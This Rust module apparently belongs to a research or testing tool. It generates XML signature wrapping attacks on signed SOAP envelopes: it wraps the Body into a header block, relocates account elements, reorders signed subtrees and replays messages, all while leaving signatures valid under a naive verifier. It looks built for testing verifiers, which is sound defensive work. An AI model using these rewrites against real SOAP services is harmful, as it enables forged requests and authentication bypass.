//! Mechanical rewriting attacks. Every generator leaves all signatures
//! untouched, so its output still passes [`verify_naive`](crate::dsig::verify_naive).

pub mod corpus;
pub mod pipeline;

use serde::{Deserialize, Serialize};

use crate::account::ACCOUNT_ELEMENT;
use crate::dsig::{self, signed_body_paths};
use crate::error::{Error, Result};
use crate::soap::{insert_header_block, SoapEnvelope, ROLE_NEXT, ROLE_NONE};
use crate::xml::{id_of, Element, NodePath, XmlNode};

pub const DEFAULT_WRAPPER: &str = "BogusHeader";
pub const DEFAULT_BENIGN_HEADER: &str = "Via";

fn default_wrapper() -> String {
    DEFAULT_WRAPPER.to_string()
}

fn default_benign() -> String {
    DEFAULT_BENIGN_HEADER.to_string()
}

/// An attack and its parameters. `seed` picks the attacker's Body.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
pub enum AttackKind {
    WrapBody {
        #[serde(default = "default_wrapper")]
        wrapper: String,
        #[serde(default)]
        copy_parent_id: bool,
        #[serde(default)]
        seed: u64,
    },
    RelocateAccount {
        #[serde(default)]
        seed: u64,
    },
    ReorderSigned,
    Replay,
    AddBenignHeader {
        #[serde(default = "default_benign")]
        name: String,
    },
}

impl AttackKind {
    pub fn name(&self) -> &'static str {
        match self {
            AttackKind::WrapBody { .. } => "wrap_body",
            AttackKind::RelocateAccount { .. } => "relocate_account",
            AttackKind::ReorderSigned => "reorder_signed",
            AttackKind::Replay => "replay",
            AttackKind::AddBenignHeader { .. } => "add_benign_header",
        }
    }

    /// The kind with default parameters, from its snake_case name.
    pub fn from_name(name: &str) -> Option<AttackKind> {
        Some(match name {
            "wrap_body" => AttackKind::WrapBody {
                wrapper: default_wrapper(),
                copy_parent_id: false,
                seed: 0,
            },
            "relocate_account" => AttackKind::RelocateAccount { seed: 0 },
            "reorder_signed" => AttackKind::ReorderSigned,
            "replay" => AttackKind::Replay,
            "add_benign_header" => AttackKind::AddBenignHeader { name: default_benign() },
            _ => return None,
        })
    }

    /// True for the kinds that model an adversary rather than a legitimate intermediary.
    pub fn is_malicious(&self) -> bool {
        !matches!(self, AttackKind::AddBenignHeader { .. })
    }
}

pub fn apply_attack(env: SoapEnvelope, kind: &AttackKind) -> Result<SoapEnvelope> {
    match kind {
        AttackKind::WrapBody {
            wrapper,
            copy_parent_id,
            seed,
        } => attack_wrap_body_with(env, corpus::attacker_body(*seed).into(), wrapper, *copy_parent_id),
        AttackKind::RelocateAccount { seed } => attack_relocate_account(env, corpus::attacker_body(*seed).into()),
        AttackKind::ReorderSigned => attack_reorder_signed(env),
        AttackKind::Replay => Ok(attack_replay(&env)),
        AttackKind::AddBenignHeader { name } => add_benign_header(env, name),
    }
}

fn wrapper_block(name: &str) -> Element {
    Element::new(name)
        .with_attr("role", ROLE_NONE)
        .with_attr("mustUnderstand", "false")
}

/// Index in Header where attacker blocks go: just before the first
/// Security block, or at the end.
fn slot_before_security(env: &SoapEnvelope) -> (NodePath, usize) {
    let hp = env.header_path().expect("caller ensured a Header").clone();
    let header = env.root().element_at(&hp).expect("header path valid");
    let idx = header
        .children
        .iter()
        .position(|c| c.as_element().is_some_and(|e| e.local_name() == "Security"))
        .unwrap_or(header.children.len());
    (hp, idx)
}

pub fn attack_wrap_body(env: SoapEnvelope, attacker_body: XmlNode, wrapper_name: &str) -> Result<SoapEnvelope> {
    attack_wrap_body_with(env, attacker_body, wrapper_name, false)
}

/// Moves the signed Body into a new `role="none"` header block named
/// `wrapper_name` and puts `attacker_body` where it was. With
/// `copy_parent_id` the wrapper also receives the Envelope's identifier.
pub fn attack_wrap_body_with(
    env: SoapEnvelope,
    attacker_body: XmlNode,
    wrapper_name: &str,
    copy_parent_id: bool,
) -> Result<SoapEnvelope> {
    if !crate::xml::is_valid_name(wrapper_name) {
        return Err(Error::InvalidHeaderName(wrapper_name.to_string()));
    }
    let body_path = signed_body_paths(&env).into_iter().next().ok_or(Error::NoSignedBody)?;
    let envelope_id = copy_parent_id
        .then(|| id_of(env.root()).map(|id| (crate::dsig::WSU_ID, id.to_string())))
        .flatten();
    // a signed Body implies a Security header, hence a Header
    let (hp, slot) = slot_before_security(&env);
    env.edit(|root| {
        let body = root.remove(&body_path)?;
        root.insert(&NodePath::root(), body_path.indices()[0], attacker_body)?;
        let mut wrapper = wrapper_block(wrapper_name).with_child(body);
        if let Some((name, id)) = envelope_id {
            wrapper.set_attr(name, id);
        }
        root.insert(&hp, slot, wrapper.into())
    })
}

/// Cuts every header-level SoapAccount into one new `Action` block with
/// `role="none"`, together with the original Body inside a nested
/// Envelope/Header shell, and puts `attacker_body` in the Body's place.
pub fn attack_relocate_account(env: SoapEnvelope, attacker_body: XmlNode) -> Result<SoapEnvelope> {
    let Some(hp) = env.header_path().cloned() else {
        return Err(Error::NoAccountPresent);
    };
    let header = env.header().expect("header path valid");
    let account_idx: Vec<usize> = header
        .children
        .iter()
        .enumerate()
        .filter(|(_, c)| c.as_element().is_some_and(|e| e.local_name() == ACCOUNT_ELEMENT))
        .map(|(i, _)| i)
        .collect();
    if account_idx.is_empty() {
        return Err(Error::NoAccountPresent);
    }
    let body_path = signed_body_paths(&env)
        .into_iter()
        .next()
        .or_else(|| env.body_paths().first().cloned())
        .ok_or(Error::NoSignedBody)?;

    env.edit(|root| {
        let mut accounts = Vec::new();
        for i in account_idx.iter().rev() {
            accounts.push(root.remove(&hp.child(*i))?);
        }
        accounts.reverse();
        let body = root.remove(&body_path)?;
        root.insert(&NodePath::root(), body_path.indices()[0], attacker_body)?;
        let shell = Element::new("Envelope")
            .with_child(Element::new("Header"))
            .with_child(body);
        let mut action = wrapper_block("Action").with_child(shell);
        action.children.extend(accounts);
        root.insert(&hp, account_idx[0], action.into())
    })
}

/// Swaps the subtrees of the first two signed elements of the first
/// signature, skipping any that sit inside another signed element.
pub fn attack_reorder_signed(env: SoapEnvelope) -> Result<SoapEnvelope> {
    let first = dsig::signatures(&env)
        .into_iter()
        .flatten()
        .next()
        .ok_or(Error::NeedTwoSignedElements)?;
    let paths: Vec<NodePath> = first
        .referenced_ids()
        .filter_map(|id| crate::xml::resolve_reference(env.root(), id).ok())
        .collect();
    let outer: Vec<&NodePath> = paths
        .iter()
        .filter(|p| !paths.iter().any(|q| q != *p && q.is_prefix_of(p)))
        .collect();
    let [a, b, ..] = outer.as_slice() else {
        return Err(Error::NeedTwoSignedElements);
    };
    let (a, b) = ((*a).clone(), (*b).clone());
    env.edit(|root| root.swap(&a, &b))
}

pub fn attack_replay(env: &SoapEnvelope) -> SoapEnvelope {
    env.clone()
}

/// What an honest intermediary may do: add an unsigned `role="next"` block.
pub fn add_benign_header(env: SoapEnvelope, name: &str) -> Result<SoapEnvelope> {
    insert_header_block(env, name, ROLE_NEXT)
}
